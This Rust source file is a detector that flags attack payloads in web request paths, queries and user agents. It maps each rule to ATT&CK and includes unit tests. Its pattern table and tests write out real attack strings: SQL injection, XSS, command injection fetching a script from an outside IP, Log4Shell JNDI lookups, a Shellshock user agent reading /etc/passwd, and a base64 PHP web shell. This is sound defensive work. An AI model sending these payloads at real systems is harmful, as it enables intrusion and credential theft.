//! Payload-level signs of attack in one web request: SQL injection, cross-site
//! scripting, path traversal, sensitive files, PHP stream wrappers, OS command
//! injection, Log4Shell, Shellshock, and the user agents of scanning tools. Each is a
//! named detection with its ATT&CK technique ([`RULES`]).
//!
//! Path and query are percent-decoded once (`+` is a space in the query), runs of
//! whitespace and inline SQL comments (`/**/`) become one space, and everything is
//! matched case-insensitively against one pattern table, compiled into two
//! Aho-Corasick automata: one for paths and queries (overlapping matches: `../` and
//! `/etc/passwd` share a slash), a smaller one for user agents. A request that
//! matches nothing costs one pass per field and no allocation (fields longer than
//! 4 KiB that need decoding are the exception).

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, AhoCorasickKind, MatchKind};
use std::sync::LazyLock;

/// One payload detection.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct PayloadRule {
    /// Stable id, `web.*`.
    pub id: &'static str,
    /// Short title for findings.
    pub title: &'static str,
    /// MITRE ATT&CK technique.
    pub technique: &'static str,
    /// Severity score of a single hit, 1.0–10.0.
    pub severity: f64,
}

/// Index of each rule in [`RULES`] (and its bit in [`PayloadHits`]).
pub mod idx {
    /// `web.sqli`.
    pub const SQLI: usize = 0;
    /// `web.xss`.
    pub const XSS: usize = 1;
    /// `web.path_traversal`.
    pub const TRAVERSAL: usize = 2;
    /// `web.sensitive_file`.
    pub const SENSITIVE_FILE: usize = 3;
    /// `web.php_wrapper`.
    pub const PHP_WRAPPER: usize = 4;
    /// `web.cmd_injection`.
    pub const CMD_INJECTION: usize = 5;
    /// `web.log4shell`.
    pub const LOG4SHELL: usize = 6;
    /// `web.shellshock`.
    pub const SHELLSHOCK: usize = 7;
    /// `web.scanner_ua`.
    pub const SCANNER_UA: usize = 8;
}

/// Every payload detection, in index order (the bits of [`PayloadHits`]).
pub static RULES: [PayloadRule; 9] = [
    PayloadRule {
        id: "web.sqli",
        title: "SQL injection attempt",
        technique: "T1190",
        severity: 7.0,
    },
    PayloadRule {
        id: "web.xss",
        title: "Cross-site scripting attempt",
        technique: "T1059.007",
        severity: 6.0,
    },
    PayloadRule {
        id: "web.path_traversal",
        title: "Path traversal attempt",
        technique: "T1083",
        severity: 6.5,
    },
    PayloadRule {
        id: "web.sensitive_file",
        title: "Request for a credential or system file",
        technique: "T1552.001",
        severity: 6.0,
    },
    PayloadRule {
        id: "web.php_wrapper",
        title: "PHP stream wrapper in a request (file inclusion)",
        technique: "T1190",
        severity: 7.5,
    },
    PayloadRule {
        id: "web.cmd_injection",
        title: "OS command injection attempt",
        technique: "T1059.004",
        severity: 8.0,
    },
    PayloadRule {
        id: "web.log4shell",
        title: "Log4Shell JNDI lookup (CVE-2021-44228)",
        technique: "T1190",
        severity: 9.5,
    },
    PayloadRule {
        id: "web.shellshock",
        title: "Shellshock function definition (CVE-2014-6271)",
        technique: "T1190",
        severity: 9.0,
    },
    PayloadRule {
        id: "web.scanner_ua",
        title: "Vulnerability scanner user agent",
        technique: "T1595.002",
        severity: 5.0,
    },
];

/// The rules a request matched: a bitset over [`RULES`].
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Hash)]
pub struct PayloadHits(u16);

impl PayloadHits {
    /// Whether nothing matched.
    pub fn is_empty(self) -> bool {
        self.0 == 0
    }

    /// Number of rules matched.
    pub fn len(self) -> usize {
        self.0.count_ones() as usize
    }

    /// Whether rule `index` of [`RULES`] matched.
    pub fn contains(self, index: usize) -> bool {
        index < 16 && self.0 & (1 << index) != 0
    }

    /// Whether the rule with this id matched.
    pub fn contains_id(self, id: &str) -> bool {
        self.iter().any(|r| r.id == id)
    }

    /// The raw bits (bit i = `RULES[i]`).
    pub fn bits(self) -> u16 {
        self.0
    }

    /// Indices into [`RULES`] of the matched rules, in order.
    pub fn indices(self) -> impl Iterator<Item = usize> {
        (0..RULES.len()).filter(move |&i| self.contains(i))
    }

    /// The matched rules, in order.
    pub fn iter(self) -> impl Iterator<Item = &'static PayloadRule> {
        self.indices().map(|i| &RULES[i])
    }

    /// The matched rule with the highest severity.
    pub fn strongest(self) -> Option<&'static PayloadRule> {
        self.iter().max_by(|a, b| a.severity.total_cmp(&b.severity))
    }

    /// Union of two hit sets.
    pub fn union(self, other: Self) -> Self {
        Self(self.0 | other.0)
    }

    fn insert(&mut self, rule: usize) {
        self.0 |= 1 << rule;
    }
}

/// Where a pattern counts.
const IN_URL: u8 = 1;
const IN_UA: u8 = 2;
const ANYWHERE: u8 = IN_URL | IN_UA;
/// The match must start a word: the byte before it is not a letter
/// (`reunion selection` is not `union select`).
const WORD: u8 = 4;

/// (pattern, rule, where). Patterns are lower case and see decoded, whitespace-
/// normalised text. They are chosen to need attack syntax around a keyword, so that
/// `/select-your-plan` or `?q=union+station` stay clean.
const PATTERNS: &[(&str, usize, u8)] = &[
    // SQL injection: set operators, tautologies, time/error-based probes, catalogs.
    ("union select", idx::SQLI, IN_URL | WORD),
    ("union all select", idx::SQLI, IN_URL | WORD),
    ("union distinct select", idx::SQLI, IN_URL | WORD),
    ("union(select", idx::SQLI, IN_URL | WORD),
    ("' or '1'='1", idx::SQLI, IN_URL),
    ("' or 1=1", idx::SQLI, IN_URL),
    ("\" or 1=1", idx::SQLI, IN_URL),
    ("' or ''='", idx::SQLI, IN_URL),
    (" or 1=1--", idx::SQLI, IN_URL),
    (" or 1=1#", idx::SQLI, IN_URL),
    (" and 1=1", idx::SQLI, IN_URL),
    (" and 1=2", idx::SQLI, IN_URL),
    ("' and '1'='1", idx::SQLI, IN_URL),
    ("'--", idx::SQLI, IN_URL),
    ("' --", idx::SQLI, IN_URL),
    ("sleep(", idx::SQLI, IN_URL | WORD),
    ("benchmark(", idx::SQLI, IN_URL | WORD),
    ("waitfor delay", idx::SQLI, IN_URL | WORD),
    ("information_schema", idx::SQLI, IN_URL),
    ("@@version", idx::SQLI, IN_URL),
    ("extractvalue(", idx::SQLI, IN_URL | WORD),
    ("updatexml(", idx::SQLI, IN_URL | WORD),
    ("load_file(", idx::SQLI, IN_URL | WORD),
    ("into outfile", idx::SQLI, IN_URL | WORD),
    ("into dumpfile", idx::SQLI, IN_URL | WORD),
    ("xp_cmdshell", idx::SQLI, IN_URL),
    ("concat(0x", idx::SQLI, IN_URL | WORD),
    ("order by 1--", idx::SQLI, IN_URL),
    ("; drop table", idx::SQLI, IN_URL),
    ("';drop table", idx::SQLI, IN_URL),
    // Cross-site scripting.
    ("<script", idx::XSS, IN_URL),
    ("</script", idx::XSS, IN_URL),
    ("%3cscript", idx::XSS, IN_URL),
    ("javascript:", idx::XSS, IN_URL),
    ("vbscript:", idx::XSS, IN_URL),
    // Event handlers as attributes: after a space, a quote or a slash, so that a
    // query parameter named `onload` stays clean.
    (" onerror=", idx::XSS, IN_URL),
    ("\"onerror=", idx::XSS, IN_URL),
    ("'onerror=", idx::XSS, IN_URL),
    ("/onerror=", idx::XSS, IN_URL),
    (" onload=", idx::XSS, IN_URL),
    ("\"onload=", idx::XSS, IN_URL),
    ("'onload=", idx::XSS, IN_URL),
    ("/onload=", idx::XSS, IN_URL),
    (" onmouseover=", idx::XSS, IN_URL),
    ("\"onmouseover=", idx::XSS, IN_URL),
    ("'onmouseover=", idx::XSS, IN_URL),
    ("/onmouseover=", idx::XSS, IN_URL),
    (" onfocus=", idx::XSS, IN_URL),
    ("\"onfocus=", idx::XSS, IN_URL),
    ("'onfocus=", idx::XSS, IN_URL),
    ("/onfocus=", idx::XSS, IN_URL),
    (" ontoggle=", idx::XSS, IN_URL),
    ("\"ontoggle=", idx::XSS, IN_URL),
    ("'ontoggle=", idx::XSS, IN_URL),
    ("/ontoggle=", idx::XSS, IN_URL),
    ("<svg", idx::XSS, IN_URL),
    ("<iframe", idx::XSS, IN_URL),
    ("<img src", idx::XSS, IN_URL),
    ("<body onload", idx::XSS, IN_URL),
    ("document.cookie", idx::XSS, IN_URL),
    ("string.fromcharcode(", idx::XSS, IN_URL),
    // Path traversal, plain and with leftover (double) encodings.
    ("../", idx::TRAVERSAL, IN_URL),
    ("..\\", idx::TRAVERSAL, IN_URL),
    ("..%2f", idx::TRAVERSAL, IN_URL),
    ("..%5c", idx::TRAVERSAL, IN_URL),
    ("%2e%2e/", idx::TRAVERSAL, IN_URL),
    ("%2e%2e%2f", idx::TRAVERSAL, IN_URL),
    (".%2e/", idx::TRAVERSAL, IN_URL),
    ("%2e./", idx::TRAVERSAL, IN_URL),
    ("..%c0%af", idx::TRAVERSAL, IN_URL),
    ("..;/", idx::TRAVERSAL, IN_URL),
    // Credential and system files.
    ("/etc/passwd", idx::SENSITIVE_FILE, IN_URL),
    ("/etc/shadow", idx::SENSITIVE_FILE, IN_URL),
    ("/proc/self/environ", idx::SENSITIVE_FILE, IN_URL),
    ("/.env", idx::SENSITIVE_FILE, IN_URL),
    ("/.git/", idx::SENSITIVE_FILE, IN_URL),
    ("/.aws/credentials", idx::SENSITIVE_FILE, IN_URL),
    ("/.ssh/id_", idx::SENSITIVE_FILE, IN_URL),
    ("/.htpasswd", idx::SENSITIVE_FILE, IN_URL),
    ("wp-config.php", idx::SENSITIVE_FILE, IN_URL),
    ("win.ini", idx::SENSITIVE_FILE, IN_URL),
    ("boot.ini", idx::SENSITIVE_FILE, IN_URL),
    // PHP stream wrappers.
    ("php://", idx::PHP_WRAPPER, IN_URL),
    ("phar://", idx::PHP_WRAPPER, IN_URL),
    ("expect://", idx::PHP_WRAPPER, IN_URL),
    ("data://text", idx::PHP_WRAPPER, IN_URL),
    ("zip://", idx::PHP_WRAPPER, IN_URL),
    ("file:///", idx::PHP_WRAPPER, IN_URL),
    // OS command injection: a shell separator right before a command.
    (";wget ", idx::CMD_INJECTION, IN_URL),
    ("; wget ", idx::CMD_INJECTION, IN_URL),
    ("|wget ", idx::CMD_INJECTION, IN_URL),
    ("| wget ", idx::CMD_INJECTION, IN_URL),
    (";curl ", idx::CMD_INJECTION, IN_URL),
    ("; curl ", idx::CMD_INJECTION, IN_URL),
    ("|curl ", idx::CMD_INJECTION, IN_URL),
    ("| curl ", idx::CMD_INJECTION, IN_URL),
    ("$(wget", idx::CMD_INJECTION, IN_URL),
    ("$(curl", idx::CMD_INJECTION, IN_URL),
    ("`wget", idx::CMD_INJECTION, IN_URL),
    ("`curl", idx::CMD_INJECTION, IN_URL),
    (";id;", idx::CMD_INJECTION, IN_URL),
    ("$(id)", idx::CMD_INJECTION, IN_URL),
    ("`id`", idx::CMD_INJECTION, IN_URL),
    (";whoami", idx::CMD_INJECTION, IN_URL),
    ("; whoami", idx::CMD_INJECTION, IN_URL),
    ("|whoami", idx::CMD_INJECTION, IN_URL),
    ("| whoami", idx::CMD_INJECTION, IN_URL),
    ("&&whoami", idx::CMD_INJECTION, IN_URL),
    ("&& whoami", idx::CMD_INJECTION, IN_URL),
    (";uname -a", idx::CMD_INJECTION, IN_URL),
    ("; uname -a", idx::CMD_INJECTION, IN_URL),
    ("/bin/sh", idx::CMD_INJECTION, IN_URL),
    ("/bin/bash", idx::CMD_INJECTION, ANYWHERE),
    ("cmd.exe", idx::CMD_INJECTION, IN_URL),
    ("powershell.exe", idx::CMD_INJECTION, IN_URL),
    ("powershell -", idx::CMD_INJECTION, IN_URL),
    ("nc -e ", idx::CMD_INJECTION, IN_URL),
    // Log4Shell, with the common obfuscations of `jndi`.
    ("${jndi:", idx::LOG4SHELL, ANYWHERE),
    ("${${", idx::LOG4SHELL, ANYWHERE),
    ("${lower:", idx::LOG4SHELL, ANYWHERE),
    ("${upper:", idx::LOG4SHELL, ANYWHERE),
    ("${::-", idx::LOG4SHELL, ANYWHERE),
    ("${env:", idx::LOG4SHELL, ANYWHERE),
    ("%24%7bjndi", idx::LOG4SHELL, ANYWHERE),
    // Shellshock.
    ("() {", idx::SHELLSHOCK, ANYWHERE),
    ("(){ :", idx::SHELLSHOCK, ANYWHERE),
    // Scanning tools, by user agent only.
    ("sqlmap", idx::SCANNER_UA, IN_UA),
    ("nikto", idx::SCANNER_UA, IN_UA | WORD),
    ("nmap", idx::SCANNER_UA, IN_UA | WORD),
    ("masscan", idx::SCANNER_UA, IN_UA),
    ("zgrab", idx::SCANNER_UA, IN_UA),
    ("gobuster", idx::SCANNER_UA, IN_UA),
    ("dirbuster", idx::SCANNER_UA, IN_UA),
    ("feroxbuster", idx::SCANNER_UA, IN_UA),
    ("wpscan", idx::SCANNER_UA, IN_UA),
    ("nuclei", idx::SCANNER_UA, IN_UA | WORD),
    ("acunetix", idx::SCANNER_UA, IN_UA),
    ("netsparker", idx::SCANNER_UA, IN_UA),
    ("openvas", idx::SCANNER_UA, IN_UA),
    ("w3af", idx::SCANNER_UA, IN_UA | WORD),
    ("havij", idx::SCANNER_UA, IN_UA | WORD),
    ("commix", idx::SCANNER_UA, IN_UA | WORD),
    ("arachni", idx::SCANNER_UA, IN_UA),
    ("skipfish", idx::SCANNER_UA, IN_UA),
    ("wfuzz", idx::SCANNER_UA, IN_UA | WORD),
    ("fuzz faster u fool", idx::SCANNER_UA, IN_UA),
    ("jaeles", idx::SCANNER_UA, IN_UA),
    ("zmeu", idx::SCANNER_UA, IN_UA | WORD),
    ("hydra", idx::SCANNER_UA, IN_UA | WORD),
    ("morfeus", idx::SCANNER_UA, IN_UA),
];

/// An automaton over the patterns of one scope, with their rows in [`PATTERNS`].
struct Automaton {
    ac: AhoCorasick,
    rows: Vec<usize>,
}

impl Automaton {
    /// `None` only if the builder refuses the table (a bug the tests catch).
    fn build(scope: u8, kind: Option<AhoCorasickKind>) -> Option<Self> {
        let rows: Vec<usize> = (0..PATTERNS.len())
            .filter(|&i| PATTERNS[i].2 & scope != 0)
            .collect();
        let ac = AhoCorasickBuilder::new()
            .ascii_case_insensitive(true)
            .match_kind(MatchKind::Standard)
            .kind(kind)
            .build(rows.iter().map(|&i| PATTERNS[i].0))
            .ok()?;
        Some(Self { ac, rows })
    }
}

/// Paths and queries see URL patterns; user agents see theirs (a smaller automaton:
/// agents are long and repeat).
static URL: LazyLock<Option<Automaton>> =
    LazyLock::new(|| Automaton::build(IN_URL, Some(AhoCorasickKind::DFA)));
static AGENT: LazyLock<Option<Automaton>> = LazyLock::new(|| Automaton::build(IN_UA, None));

/// Inspects one request: `path` and `query` as logged (percent-encoded), the user
/// agent as logged. The union of [`inspect_url`] and [`inspect_user_agent`].
pub fn inspect(path: &str, query: Option<&str>, user_agent: &str) -> PayloadHits {
    inspect_url(path, query).union(inspect_user_agent(user_agent))
}

/// The detections found in a request's path and query alone.
pub fn inspect_url(path: &str, query: Option<&str>) -> PayloadHits {
    let mut hits = PayloadHits::default();
    let Some(ac) = URL.as_ref() else {
        return hits;
    };
    scan_url(ac, path.as_bytes(), false, &mut hits);
    if path.ends_with("/..") {
        hits.insert(idx::TRAVERSAL);
    }
    if let Some(q) = query {
        scan_url(ac, q.as_bytes(), true, &mut hits);
    }
    hits
}

/// The detections found in a user agent alone (scanners, Log4Shell, Shellshock).
/// User agents repeat across requests: callers that intern them can cache this per
/// distinct agent.
pub fn inspect_user_agent(user_agent: &str) -> PayloadHits {
    let mut hits = PayloadHits::default();
    if let Some(a) = AGENT.as_ref() {
        let text = user_agent.as_bytes();
        for m in a.ac.find_iter(text) {
            let (_, rule, at) = PATTERNS[a.rows[m.pattern().as_usize()]];
            if at & WORD == 0 || m.start() == 0 || !text[m.start() - 1].is_ascii_alphabetic() {
                hits.insert(rule);
            }
        }
    }
    hits
}

fn scan(a: &Automaton, text: &[u8], hits: &mut PayloadHits) {
    for m in a.ac.find_overlapping_iter(text) {
        let (_, rule, at) = PATTERNS[a.rows[m.pattern().as_usize()]];
        let starts_word = m.start() == 0 || !text[m.start() - 1].is_ascii_alphabetic();
        if at & WORD == 0 || starts_word {
            hits.insert(rule);
        }
    }
}

/// Decodes (when needed) and scans a path or query.
fn scan_url(ac: &Automaton, raw: &[u8], plus_is_space: bool, hits: &mut PayloadHits) {
    let needs_work = raw.iter().any(|&c| {
        c == b'%' || (plus_is_space && c == b'+') || c.is_ascii_whitespace() || c == b'*'
    });
    if !needs_work {
        scan(ac, raw, hits);
        return;
    }
    let mut stack = [0u8; 4096];
    if raw.len() <= stack.len() {
        let n = normalise(raw, plus_is_space, &mut stack);
        scan(ac, &stack[..n], hits);
    } else {
        let mut heap = vec![0u8; raw.len()];
        let n = normalise(raw, plus_is_space, &mut heap);
        scan(ac, &heap[..n], hits);
    }
}

fn hex(c: u8) -> Option<u8> {
    match c {
        b'0'..=b'9' => Some(c - b'0'),
        b'a'..=b'f' => Some(c - b'a' + 10),
        b'A'..=b'F' => Some(c - b'A' + 10),
        _ => None,
    }
}

/// Percent-decodes `raw` once into `out` (`+` as a space when asked), folding runs
/// of whitespace and closed `/*…*/` comments into one space. Decoding never
/// lengthens the text, so `out` needs `raw.len()` bytes. Returns the length written.
fn normalise(raw: &[u8], plus_is_space: bool, out: &mut [u8]) -> usize {
    let mut n = 0;
    let mut i = 0;
    let mut in_comment = false;
    let mut prev_star = false;
    while i < raw.len() {
        let mut c = raw[i];
        i += 1;
        if c == b'%' {
            if let (Some(h), Some(l)) = (
                raw.get(i).copied().and_then(hex),
                raw.get(i + 1).copied().and_then(hex),
            ) {
                c = (h << 4) | l;
                i += 2;
            }
        } else if c == b'+' && plus_is_space {
            c = b' ';
        }
        if in_comment {
            if c == b'/' && prev_star {
                in_comment = false;
                c = b' ';
            } else {
                prev_star = c == b'*';
                continue;
            }
        } else if c == b'*'
            && n > 0
            && out[n - 1] == b'/'
            && memchr::memmem::find(&raw[i..], b"*/").is_some()
        {
            // `/*` opening a comment that closes later: drop the `/` and skip to `*/`.
            n -= 1;
            in_comment = true;
            prev_star = false;
            continue;
        }
        if c.is_ascii_whitespace() {
            if n > 0 && out[n - 1] == b' ' {
                continue;
            }
            c = b' ';
        }
        out[n] = c;
        n += 1;
    }
    n
}

#[cfg(test)]
mod tests {
    use super::*;

    const BROWSER: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36";

    fn ids(h: PayloadHits) -> Vec<&'static str> {
        h.iter().map(|r| r.id).collect()
    }

    fn split(target: &str) -> (&str, Option<&str>) {
        match target.split_once('?') {
            Some((p, q)) => (p, Some(q)),
            None => (target, None),
        }
    }

    #[test]
    fn finds_real_attack_strings() {
        let cases: &[(&str, &str, &[&str])] = &[
            (
                "/index.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20",
                BROWSER,
                &["web.sqli"],
            ),
            (
                "/item?id=1+UNION+ALL+SELECT+NULL,NULL,NULL--",
                BROWSER,
                &["web.sqli"],
            ),
            (
                "/item?id=1/**/UnIoN/**/SeLeCt/**/1,2",
                BROWSER,
                &["web.sqli"],
            ),
            ("/item?id=-1union%0aselect%0a1,2", BROWSER, &["web.sqli"]),
            (
                "/login?user=admin%27%20OR%20%271%27%3D%271&pw=x",
                BROWSER,
                &["web.sqli"],
            ),
            ("/p?id=1%27%20AND%20SLEEP(5)--%20-", BROWSER, &["web.sqli"]),
            (
                "/p?id=(SELECT%20table_name%20FROM%20information_schema.tables)",
                BROWSER,
                &["web.sqli"],
            ),
            (
                "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
                BROWSER,
                &["web.xss"],
            ),
            (
                "/search?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
                BROWSER,
                &["web.xss"],
            ),
            ("/r?next=javascript:alert(1)", BROWSER, &["web.xss"]),
            (
                "/p?name=%22%20autofocus%20onfocus%3Dalert(1)%20x%3D%22",
                BROWSER,
                &["web.xss"],
            ),
            ("/p?x=%3Csvg/onload%3Dalert(1)%3E", BROWSER, &["web.xss"]),
            ("/q?x=%253Cscript%253E", BROWSER, &["web.xss"]),
            (
                "/static/../../../../etc/passwd",
                BROWSER,
                &["web.path_traversal", "web.sensitive_file"],
            ),
            (
                "/download?file=..%2F..%2F..%2Fetc%2Fshadow",
                BROWSER,
                &["web.path_traversal", "web.sensitive_file"],
            ),
            (
                "/files/..%252f..%252fwin.ini",
                BROWSER,
                &["web.path_traversal", "web.sensitive_file"],
            ),
            (
                "/%2e%2e/%2e%2e/boot.ini",
                BROWSER,
                &["web.path_traversal", "web.sensitive_file"],
            ),
            ("/blog/2024/../", BROWSER, &["web.path_traversal"]),
            ("/blog/2024/..", BROWSER, &["web.path_traversal"]),
            ("/.env", BROWSER, &["web.sensitive_file"]),
            ("/.git/config", BROWSER, &["web.sensitive_file"]),
            ("/wp-config.php.bak", BROWSER, &["web.sensitive_file"]),
            (
                "/index.php?page=php://filter/convert.base64-encode/resource=index",
                BROWSER,
                &["web.php_wrapper"],
            ),
            (
                "/index.php?page=data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8%2B",
                BROWSER,
                &["web.php_wrapper"],
            ),
            (
                "/ping?host=127.0.0.1%3Bwget%20http://203.0.113.66/x.sh",
                BROWSER,
                &["web.cmd_injection"],
            ),
            (
                "/ping?host=127.0.0.1|whoami",
                BROWSER,
                &["web.cmd_injection"],
            ),
            (
                "/cgi?x=$(curl%20203.0.113.66)",
                BROWSER,
                &["web.cmd_injection"],
            ),
            (
                "/",
                "${jndi:ldap://203.0.113.66:1389/Exploit}",
                &["web.log4shell"],
            ),
            (
                "/?x=%24%7Bjndi%3Armi%3A%2F%2F203.0.113.66%2Fa%7D",
                BROWSER,
                &["web.log4shell"],
            ),
            (
                "/",
                "${${lower:j}${lower:n}di:ldap://x/a}",
                &["web.log4shell"],
            ),
            (
                "/cgi-bin/status",
                "() { :; }; /bin/bash -c 'cat /etc/passwd'",
                &["web.cmd_injection", "web.shellshock"],
            ),
            (
                "/",
                "sqlmap/1.8.2#stable (https://sqlmap.org)",
                &["web.scanner_ua"],
            ),
            (
                "/",
                "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)",
                &["web.scanner_ua"],
            ),
            (
                "/",
                "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
                &["web.scanner_ua"],
            ),
            (
                "/",
                "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
                &["web.scanner_ua"],
            ),
            ("/", "Mozilla/5.0 zgrab/0.x", &["web.scanner_ua"]),
            ("/admin", "gobuster/3.6", &["web.scanner_ua"]),
            (
                "/admin",
                "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
                &["web.scanner_ua"],
            ),
            (
                "/wp-login.php",
                "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
                &["web.scanner_ua"],
            ),
            (
                "/",
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36 Nuclei",
                &["web.scanner_ua"],
            ),
        ];
        for (target, ua, want) in cases {
            let (path, query) = split(target);
            let got = ids(inspect(path, query, ua));
            assert_eq!(got, *want, "{target} / {ua}");
        }
    }

    #[test]
    fn leaves_look_alikes_alone() {
        let cases: &[(&str, &str)] = &[
            ("/select-your-plan", BROWSER),
            ("/search?q=union+station", BROWSER),
            ("/search?q=reunion+selection&sort=asc", BROWSER),
            ("/docs/..md", BROWSER),
            ("/docs/v1..v2/compare", BROWSER),
            ("/environment/settings", BROWSER),
            ("/blog/how-to-sleep-better", BROWSER),
            ("/articles?tag=javascript&tag=scripting", BROWSER),
            ("/widget.js?onload=initWidget&render=explicit", BROWSER),
            ("/api/orders?filter=status%3Dopen%26limit%3D50", BROWSER),
            ("/static/app.min.js", BROWSER),
            ("/images/*/thumb.png", BROWSER),
            (
                "/sitemap.xml",
                "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            ),
            ("/healthz", "ELB-HealthChecker/2.0"),
            (
                "/",
                "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
            ),
            ("/nikto-report", BROWSER),
            (
                "/api/v1/users/42?fields=id,name,email",
                "python-requests/2.31.0",
            ),
            ("/", "curl/8.5.0"),
            ("/checkout", "Amazon CloudFront"),
        ];
        for (target, ua) in cases {
            let (path, query) = split(target);
            let got = inspect(path, query, ua);
            assert!(got.is_empty(), "{target} / {ua}: {:?}", ids(got));
        }
    }

    #[test]
    fn rules_are_well_formed() {
        assert!(RULES.len() <= 16);
        for (i, r) in RULES.iter().enumerate() {
            assert!(r.id.starts_with("web."), "{}", r.id);
            assert!(r.technique.starts_with('T'), "{}", r.id);
            assert!((1.0..=10.0).contains(&r.severity), "{}", r.id);
            assert!(
                RULES[..i].iter().all(|o| o.id != r.id),
                "duplicate {}",
                r.id
            );
        }
        for (p, rule, _) in PATTERNS {
            assert_eq!(p.to_ascii_lowercase(), *p, "patterns are lower case");
            assert!(*rule < RULES.len());
        }
        assert!(URL.is_some() && AGENT.is_some());
    }

    #[test]
    fn url_and_agent_inspection_split_the_work() {
        let ua = "() { :; }; echo; /bin/bash -c id";
        assert_eq!(
            ids(inspect_user_agent(ua)),
            ["web.cmd_injection", "web.shellshock"]
        );
        assert!(inspect_url("/cgi-bin/status", None).is_empty());
        assert!(
            inspect_user_agent("/etc/passwd").is_empty(),
            "URL patterns stay in URLs"
        );
        assert_eq!(RULES[idx::SCANNER_UA].id, "web.scanner_ua");
        assert_eq!(RULES[idx::SQLI].id, "web.sqli");
        assert_eq!(RULES[idx::LOG4SHELL].id, "web.log4shell");
    }

    #[test]
    fn hits_report_the_strongest_rule() {
        let h = inspect("/x", Some("a=${jndi:ldap://x}%3Cscript%3E"), BROWSER);
        assert_eq!(h.len(), 2);
        assert_eq!(h.strongest().map(|r| r.id), Some("web.log4shell"));
        assert!(h.contains_id("web.xss"));
        assert_eq!(PayloadHits::default().strongest(), None);
    }

    #[test]
    fn normalises_encodings_whitespace_and_comments() {
        let cases: &[(&str, bool, &str)] = &[
            ("a%20b", false, "a b"),
            ("a+b", true, "a b"),
            ("a+b", false, "a+b"),
            ("%41%4a%zz%", false, "AJ%zz%"),
            ("x%0a%09%20y", false, "x y"),
            ("union/**/select", false, "union select"),
            ("union/*!50000*/select", false, "union select"),
            ("/images/*/thumb", false, "/images/*/thumb"),
            ("%253C", false, "%3C"),
        ];
        for (raw, plus, want) in cases {
            let mut out = vec![0u8; raw.len()];
            let n = normalise(raw.as_bytes(), *plus, &mut out);
            assert_eq!(std::str::from_utf8(&out[..n]).unwrap(), *want, "{raw}");
        }
    }

    #[test]
    fn inspects_long_encoded_queries() {
        let q = format!("{}%27%20UNION%20SELECT%201", "a%20".repeat(2000));
        assert!(inspect("/", Some(&q), BROWSER).contains_id("web.sqli"));
    }
}
